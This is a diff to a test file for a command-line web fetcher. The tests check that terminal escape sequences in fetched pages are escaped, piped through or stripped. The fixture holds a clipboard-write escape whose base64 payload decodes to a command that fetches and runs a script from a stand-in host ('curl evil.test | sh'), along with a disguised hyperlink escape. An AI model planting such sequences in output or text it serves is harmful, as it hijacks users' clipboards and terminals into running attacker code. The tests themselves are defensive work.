@@ -73,7 +73,8 @@ afterAll(async () => {
 });
 
 test('sift search shows a hostile page title and snippet with its escapes written out, not run', { timeout: 60_000 }, async () => {
-  writeFileSync(path.join(dir, 'list.txt'), `${site.base}/notes.txt\n${site.base}/story\n`);
+  // Raw keeps a text's escape sequences as sent (text and markdown read its words: cli-log-text).
+  writeFileSync(path.join(dir, 'list.txt'), `${site.base}/notes.txt mode=raw\n${site.base}/story\n`);
   const batch = await sift('batch', path.join(dir, 'list.txt'), '--db', db);
   expect(batch.code).toBe(0);
   for (const words of ['ledger', 'blinks', 'harbour']) {
@@ -130,11 +131,13 @@ test('a server-chosen content type in an error reaches no terminal as a control:
 });
 
 test('sift fetch writes a page out on a terminal with its escapes shown; piped, as the page had it', { timeout: 60_000 }, async () => {
-  const onTerminal = await tty('fetch', `${site.base}/notes.txt`, '--db', db);
+  const onTerminal = await tty('fetch', `${site.base}/notes.txt`, '--mode', 'raw', '--db', db);
   expect(onTerminal.code).toBe(0);
   expect(onTerminal.out).toBe('ledger \\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\\x07 of tides \\x1b[2J\\x1b[31m and \\x1b]8;;http://evil.test/\\x1b\\docs\\x1b]8;;\\x1b\\ more\n');
-  const piped = await sift('fetch', `${site.base}/notes.txt`, '--db', db);
+  const piped = await sift('fetch', `${site.base}/notes.txt`, '--mode', 'raw', '--db', db);
   expect(piped.out).toBe(`ledger ${OSC52} of tides ${CLEAR} and ${LINK} more\n`);
+  // Its text is its words: the sequences are gone before any terminal.
+  expect((await tty('fetch', `${site.base}/notes.txt`, '--db', db)).out).toBe('ledger  of tides  and docs more\n');
   const article = await tty('fetch', `${site.base}/story`, '--db', db);
   expect(article.code).toBe(0);
   expect(article.out).toContain('harbour master');
